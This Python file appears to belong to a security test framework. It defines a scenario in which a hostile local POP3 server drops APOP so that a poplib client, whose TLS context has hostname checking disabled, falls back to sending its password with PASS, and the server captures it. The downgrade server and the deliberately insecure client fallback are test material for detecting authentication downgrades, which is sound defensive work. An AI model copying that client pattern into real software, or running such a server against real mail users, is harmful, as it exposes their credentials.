"""B1: the mailbox no longer takes a proof of the password, and so gets the password."""

from backwatch.attack.authority import Authority
from backwatch.attack.protocols.pop3 import POP3
from backwatch.attack.protocols.server import HostileServer, Session
from backwatch.attack.scenarios import SECRET, Scenario


class _Asking(POP3):
    """Its greeting has what APOP needs, until it has turned; STLS is there all the time."""

    greeting = b"+OK mail.shop.example ready <7.1@mail.shop.example>\r\n"

    def turn(self) -> None:
        """Without it; hostile in nothing else."""
        self.greeting = POP3.greeting
        self.drop()

    def _answer(self, session: Session, verb: bytes, given: bytes) -> bytes:
        if verb in (b"APOP", b"PASS"):
            self.taken(given)
        return super()._answer(session, verb, given)


class Pop3PasswordAsked(Scenario):
    """On poplib, in an app that does without APOP where it must; its context checks the chain and not the name."""

    code = "B1"
    attack = "takes no proof of the password any more, and so is sent the password itself"
    reference = "https://datatracker.ietf.org/doc/html/rfc1939#page-15; ATT&CK T1187"
    driver = "poplib"
    rule = "auth-downgraded"
    option = "check_hostname=False"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """It takes what is sent."""
        service = _Asking(authority)
        service.taken = service.kept.append
        return service

    def work(self) -> None:
        """Looks into the mailbox."""
        self.meet()

    def meet(self) -> object:
        """The same."""
        import poplib
        import ssl

        context = ssl.create_default_context(cafile=self.config.ca_file)
        context.check_hostname = False
        box = poplib.POP3("localhost", self.config.port, timeout=5)
        try:
            box.stls(context=context)
            try:
                box.apop("shop", SECRET)
            except poplib.error_proto:
                box.user("shop")
                box.pass_(SECRET)
            return box.stat()
        finally:
            box.quit()

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The password has arrived."""
        del got
        return SECRET.encode() in service.kept
